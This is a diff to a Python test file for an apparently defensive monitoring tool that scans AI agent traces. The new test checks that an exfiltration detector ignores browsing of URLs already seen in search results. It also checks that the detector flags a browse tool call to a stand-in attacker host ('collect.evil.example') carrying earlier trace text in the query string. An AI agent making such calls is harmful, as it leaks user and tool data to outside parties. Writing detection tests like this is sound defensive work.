@@ -35,7 +35,7 @@ from garrison.detect.detectors.unicode import UnicodeDetector
 from garrison.detect.engine import DetectionEngine
 from garrison.errors import ConfigError
 from garrison.intel.catalog import check_tag
-from garrison.model import Channel, Event, EventKind, Source, ToolCall
+from garrison.model import Channel, Event, EventKind, Source, ToolCall, uuid7
 from garrison.model.finding import Finding
 from garrison.plugins import available
 
@@ -1085,3 +1085,32 @@ def test_detectors_never_raise_on_adversarial_fragments(parts: list[str]) -> Non
     ev = event(text, kind=EventKind.COMPLETION, channel=Channel.ASSISTANT, arguments=text)
     for detector in ALL:
         scan(detector, ev, [event(text, channel=Channel.SYSTEM)])
+
+
+def test_exfil_does_not_flag_a_url_the_trace_already_contained() -> None:
+    """A research agent browsing a link from its own search results is not exfiltration, even
+    though the URL's path repeats earlier text (found as a false positive in the demo)."""
+    t = datetime(2026, 11, 20, tzinfo=UTC)
+    results = Event(
+        id=uuid7(int(t.timestamp() * 1000)), time=t, tenant="t", app="a",
+        kind=EventKind.TOOL_RESULT, source=Source.API, channel=Channel.TOOL,
+        content="1. Trivy by Aqua Security https://github.com/aquasecurity/trivy - scanner",
+    )  # fmt: skip
+    call = Event(
+        id=uuid7(int(t.timestamp() * 1000) + 1), time=t, tenant="t", app="a",
+        kind=EventKind.TOOL_CALL, source=Source.API, channel=Channel.ASSISTANT,
+        tool=ToolCall(name="browse", arguments='{"url":"https://github.com/aquasecurity/trivy"}'),
+    )  # fmt: skip
+    detector = ExfilDetector({})
+    found = asyncio.run(detector.detect(ScanContext(event=call, trace=TraceView((results,)))))
+    assert {f.label for f in found} <= {"external_url"}
+    leak = Event(
+        id=uuid7(int(t.timestamp() * 1000) + 2), time=t, tenant="t", app="a",
+        kind=EventKind.TOOL_CALL, source=Source.API, channel=Channel.ASSISTANT,
+        tool=ToolCall(
+            name="browse",
+            arguments='{"url":"https://collect.evil.example/x?d=Trivy%20by%20Aqua%20Security%20scanner"}',
+        ),
+    )  # fmt: skip
+    found = asyncio.run(detector.detect(ScanContext(event=leak, trace=TraceView((results,)))))
+    assert "url_with_data" in {f.label for f in found}
